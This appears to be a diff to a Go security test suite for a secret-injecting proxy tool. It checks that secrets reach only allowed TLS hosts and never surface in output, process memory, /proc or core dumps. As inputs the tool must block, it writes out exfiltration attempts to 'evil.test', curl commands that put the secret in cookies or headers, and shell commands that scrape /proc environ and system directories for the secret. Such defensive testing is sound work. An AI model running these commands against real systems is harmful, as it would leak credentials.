@@ -1,23 +1,29 @@
 package spec_test
 
 import (
+	"bytes"
 	"crypto/rand"
 	"encoding/base64"
 	"encoding/hex"
+	"encoding/json"
+	"errors"
 	"fmt"
 	"io"
+	"io/fs"
 	"net/http"
 	"net/netip"
+	"os"
 	"os/exec"
 	"path/filepath"
 	"regexp"
-	"slices"
 	"strings"
 	"sync"
+	"syscall"
 	"testing"
 	"time"
 
 	"github.com/bailey-dev/bailey"
+	"github.com/bailey-dev/bailey/internal/testkit/ca"
 	"github.com/bailey-dev/bailey/internal/testkit/netlab"
 	"github.com/bailey-dev/bailey/internal/testkit/yard"
 )
@@ -145,7 +151,7 @@ func TestSEC01_PlaceholderInValueOut(t *testing.T) {
 			if got := w.got("Authorization"); got != "Bearer "+w.value {
 				t.Errorf("%s: the host got another header than the value's (%d bytes): %s", version, len(got), answer)
 			}
-			uses := eventsOf(t, r, bailey.EventSecretUse)
+			uses := eventsOf(r, bailey.EventSecretUse)
 			if len(uses) != 1 || uses[0].Name != "demo" || !strings.HasPrefix(uses[0].Secret, "sec_") || uses[0].Host != "allow.test" || uses[0].Status != 200 || uses[0].Path != "/" {
 				t.Errorf("events of uses: %+v", uses)
 			}
@@ -161,8 +167,8 @@ func TestSEC01_PlaceholderInValueOut(t *testing.T) {
 			before, _ := w.arrived(w.value)
 			w.lab.Name("false.test", netlab.Allowed)
 			stranger(t, w.lab)
-			w.set(t, "fals", newValue(), "--host", "false.test:9443", "--var", "DEMO")
-			r := y.Sh(t, bearer("https://false.test:9443/x"), "--secret", "fals")
+			w.set(t, "unproven", newValue(), "--host", "false.test:9443", "--var", "DEMO")
+			r := y.Sh(t, bearer("https://false.test:9443/x"), "--secret", "unproven")
 			if !strings.Contains(r.Stdout, "bad-certificate") {
 				t.Errorf("answer %q\n%s", r.Stdout, r.Stderr)
 			}
@@ -179,16 +185,26 @@ func TestSEC01_PlaceholderInValueOut(t *testing.T) {
 // stranger serves TLS at allowed:9443 with a certificate that nobody trusts.
 func stranger(t *testing.T, lab *netlab.Lab) {
 	t.Helper()
-	other := netlab.NewCA(t)
+	other, err := ca.New(time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
 	ln := lab.Listen(netip.AddrPortFrom(netlab.Allowed, 9443).String())
 	srv := &http.Server{Handler: http.NotFoundHandler(), TLSConfig: other.ServerConfig("http/1.1"), ReadHeaderTimeout: time.Minute}
 	go func() { _ = srv.ServeTLS(ln, "", "") }()
 	t.Cleanup(func() { _ = srv.Close() })
 }
 
-func eventsOf(t *testing.T, r yard.Result, kind bailey.EventType) []bailey.Event {
-	t.Helper()
-	return slices.DeleteFunc(events(t, r.Stderr), func(e bailey.Event) bool { return e.Type != kind })
+// eventsOf returns the events of one type in the output of --json.
+func eventsOf(r yard.Result, kind bailey.EventType) []bailey.Event {
+	var out []bailey.Event
+	for line := range strings.Lines(r.Stderr) {
+		var ev bailey.Event
+		if json.Unmarshal([]byte(line), &ev) == nil && ev.Type == kind {
+			out = append(out, ev)
+		}
+	}
+	return out
 }
 
 // TestSEC02_NeverOverPlainHTTP: TLS is opened for the hosts of a secret alone,
@@ -232,7 +248,7 @@ print(s.recv(65536).decode())
 END`
 		for _, c := range []struct{ name, script, want string }{
 			{"B001 an inspected host", bearer("https://www.allow.test/"), "secret-wrong-host"},
-			{"B001 plain HTTP to another host", bearer("http://evil.test/"), "secret-plain-http"},
+			{"B001 plain HTTP to another host", bearer("http://evil.test/"), "secret-wrong-host"},
 			{"B006 another secret's host", bearer("https://two.test/"), "secret-wrong-host"},
 			{"B017 a cookie", `curl -sS -b "t=$DEMO" https://allow.test/`, "secret-misplaced"},
 			{"B017 the user agent", `curl -sS -A "$DEMO" https://allow.test/`, "secret-misplaced"},
@@ -391,6 +407,47 @@ func TestSEC01_LifeOfASecret(t *testing.T) {
 	})
 }
 
+func statOf(t *testing.T, path string) *syscall.Stat_t {
+	t.Helper()
+	var st syscall.Stat_t
+	if err := syscall.Stat(path, &st); err != nil {
+		t.Fatal(err)
+	}
+	return &st
+}
+
+// inMemory reports whether a value is in what a process can write to, which
+// root may read of any.
+func inMemory(t *testing.T, pid int, value string) bool {
+	t.Helper()
+	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
+	if errors.Is(err, fs.ErrNotExist) {
+		return false // it has ended
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer mem.Close()
+	for line := range strings.Lines(readProc(t, pid, "maps")) {
+		var from, to int64
+		var mode string
+		if n, _ := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); n != 3 || !strings.HasPrefix(mode, "rw") {
+			continue
+		}
+		b := make([]byte, 1<<20)
+		for at := from; at < to; at += int64(len(b)) - int64(len(value)) {
+			n, err := mem.ReadAt(b[:min(int64(len(b)), to-at)], at)
+			if bytes.Contains(b[:max(n, 0)], []byte(value)) {
+				return true
+			}
+			if err != nil || to-at <= int64(len(b)) {
+				break
+			}
+		}
+	}
+	return false
+}
+
 // TestSEC06_NoInterfaceGivesAValueBack: the value is searched for in all that
 // bailey prints, keeps and runs, where a placeholder is found.
 func TestSEC06_NoInterfaceGivesAValueBack(t *testing.T) {
@@ -398,12 +455,16 @@ func TestSEC06_NoInterfaceGivesAValueBack(t *testing.T) {
 	t.Parallel()
 	yard.Each(t, func(t *testing.T, y *yard.Yard) {
 		w := newSecretWorld(t, y)
+		core := syscall.Rlimit{Cur: 1 << 20, Max: 1 << 20} // so that a limit of none is bailey's doing
+		if err := syscall.Setrlimit(syscall.RLIMIT_CORE, &core); err != nil {
+			t.Fatal(err)
+		}
 		printed := ""
 		say := func(r yard.Result) { printed += r.Stdout + r.Stderr }
-		say(w.secret(t, w.value, "set", "demo", "--host", "allow.test"))            // exists
-		say(w.secret(t, w.value, "set", "bad", "--host", "*"))                      // refused
-		say(w.secret(t, w.value+"\n\x00", "set", "bad", "--host", "a.test"))        // refused
-		say(w.secret(t, "x"+w.value, "edit", "demo", "--host", "b.test"))           // not the value
+		say(w.secret(t, w.value, "set", "demo", "--host", "allow.test"))     // exists
+		say(w.secret(t, w.value, "set", "bad", "--host", "*"))               // refused
+		say(w.secret(t, w.value+"\n\x00", "set", "bad", "--host", "a.test")) // refused
+		say(w.secret(t, "x"+w.value, "edit", "demo", "--host", "b.test"))    // not the value
 		for _, args := range [][]string{{"ls"}, {"ls", "--json"}, {"show", "demo"}, {"show", "demo", "--json"}, {"check"}, {"export", "-"}} {
 			say(w.secret(t, "", args...))
 		}
@@ -417,17 +478,41 @@ func TestSEC06_NoInterfaceGivesAValueBack(t *testing.T) {
 		for _, args := range [][]string{{"ps", "--json"}, {"net", "log"}, {"net", "log", "--json"}, {"net", "why", "allow.test"}, {"policy", "show", "--json"}, {"doctor", "--live", "held"}} {
 			say(y.Run(t, args...))
 		}
-		// What any process of bailey's shows of itself, to root.
-		procs := processesWith(t, "BAILEY", y)
-		_ = procs
-		for _, file := range []string{"environ", "cmdline"} {
-			found, _ := filepath.Glob("/proc/[0-9]*/" + file)
-			for _, path := range found {
-				if b := readAll(path); strings.Contains(b, w.value) {
-					t.Errorf("the value is in %s", path)
+		holders := 0
+		for _, pid := range processesOf(y) {
+			for _, file := range []string{"environ", "cmdline"} {
+				if strings.Contains(readProc(t, pid, file), w.value) {
+					t.Errorf("the value is in %s of %s", file, readProc(t, pid, "cmdline"))
 				}
 			}
+			if !inMemory(t, pid, w.value) {
+				continue
+			}
+			holders++
+			role := readProc(t, pid, "cmdline")
+			if !strings.HasPrefix(role, "bailey-proxy") && pid != box.Cmd.Process.Pid {
+				t.Errorf("the value is in the memory of %q", role)
+			}
+			if limits := readProc(t, pid, "limits"); !regexp.MustCompile(`Max core file size +0 `).MatchString(limits) {
+				t.Errorf("%q, which holds the value, can leave a core file", role)
+			}
+			if y.UID != 0 { // the files of a process that can be looked into belong to its user
+				if st := statOf(t, fmt.Sprintf("/proc/%d/mem", pid)); st.Uid != 0 {
+					t.Errorf("%q, which holds the value, can be looked into by its user", role)
+				}
+			}
+			if strings.HasPrefix(role, "bailey-proxy") { // what it says when it crashes
+				_ = syscall.Kill(pid, syscall.SIGABRT)
+			}
 		}
+		if holders == 0 {
+			t.Error("the twin: the value was found in no process")
+		}
+		box.Wait(t, time.Minute)
+		_, stderr = box.Output()
+		printed += stderr
+		box = y.Start(t, "run", "--name", "held", "--secret", "demo", "--", "sh", "-c", "echo ready; exec cat")
+		box.Await(t, "ready")
 		inside := y.Run(t, "exec", "held", "--", "sh", "-c", `cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'; grep -rhs DEMO /etc /home /tmp /run 2>/dev/null; true`)
 		printed += inside.Stdout
 		y.Run(t, "stop", "held")
